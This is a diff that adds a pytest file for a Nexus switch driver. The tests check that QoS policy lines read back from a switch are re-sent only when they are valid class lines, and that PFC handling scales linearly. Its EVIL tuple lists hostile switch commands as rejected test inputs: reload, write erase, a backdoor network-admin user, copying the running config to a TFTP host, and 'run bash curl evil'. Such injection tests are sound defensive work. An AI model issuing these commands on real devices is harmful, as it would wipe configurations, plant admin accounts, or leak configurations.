@@ -1,0 +1,81 @@
+"""What a Nexus shows of a policy is sent to it again: only lines that can stand in a class, and in
+time that is linear in the number of ports."""
+
+import pytest
+
+from labtests.capabilities.records import PfcSetting
+from labtests.core.errors import CommandRejected
+from labtests.drivers.nxos import configuration
+from labtests.drivers.nxos.egress import NxosEcn
+from labtests.drivers.nxos.pfc import NxosPfc
+from labtests.transport.asking import Running, answered
+from labtests.transport.protocol import Reply
+
+PORT = "Ethernet1/1"
+CLOCK = "10:20:30.123 UTC Mon Nov 23 2026\n"
+APPLIED = f"interface {PORT}\n  service-policy type queuing output OUT\n"
+EVIL = (
+    "exit",
+    "end",
+    "reload",
+    "write erase",
+    "username evil password 0 Evil-12345 role network-admin",
+    "copy running-config tftp://10.6.6.6/x",
+    "run bash curl evil",
+    "no feature ssh",
+    "class type queuing c-out-8q-q3",
+    "policy-map type queuing X",
+    "setx y",
+    "bandwidthless 5",
+)
+
+
+def policy(line):
+    return (
+        "policy-map type queuing OUT\n  class type queuing c-out-8q-q3\n"
+        f"    bandwidth remaining percent 10\n    {line}\n"
+        "  class type queuing c-out-8q-q-default\n    bandwidth remaining percent 90\n"
+    )
+
+
+def answers(qos, ports):
+    texts = {"ipqos": qos + CLOCK, "interface": ports + CLOCK}
+
+    def answer(command):
+        kind = str(command).split()[2]
+        return Reply(device="sw", command=command, text=texts[kind])
+
+    return answer
+
+
+def ask(asking, answer):
+    return answered(Running(asking), lambda asked: [answer(each) for each in asked])
+
+
+def marking(line):
+    """The lines that make queue 3 mark, on a switch whose policy has this one."""
+    of = ask(configuration.configured(), answers(policy(line), APPLIED))
+    ecn = NxosEcn("sw")
+    return ecn.commands(PORT, ecn.value(of, ecn.place(PORT)), ecn.ecn_on({3}), of)
+
+
+@pytest.mark.parametrize("line", EVIL)
+def test_a_line_that_cannot_stand_in_a_class_is_not_sent_again(line):
+    with pytest.raises(CommandRejected, match="is no line of a class that labtests sends again"):
+        marking(line)
+
+
+@pytest.mark.parametrize("line", ["queue-limit 500 kbytes", "shape min 1 gbps max 10 gbps"])
+def test_a_line_of_a_class_is_sent_again(line):
+    assert line in [str(each) for each in marking(line)]
+
+
+def test_pfc_of_many_ports_and_classes_takes_linear_time(monkeypatch):
+    """The classes are read once, not once for each port."""
+    ports = "".join(f"interface Ethernet1/{n}\n" for n in range(1, 201))
+    asked = []
+    lossless = NxosPfc._lossless
+    monkeypatch.setattr(NxosPfc, "_lossless", lambda *of: asked.append(1) or lossless(*of))
+    off = PfcSetting(mode="off", priorities=frozenset())
+    ask(NxosPfc("sw").around(PORT, (off,)), answers("", ports))
+    assert len(asked) <= 2
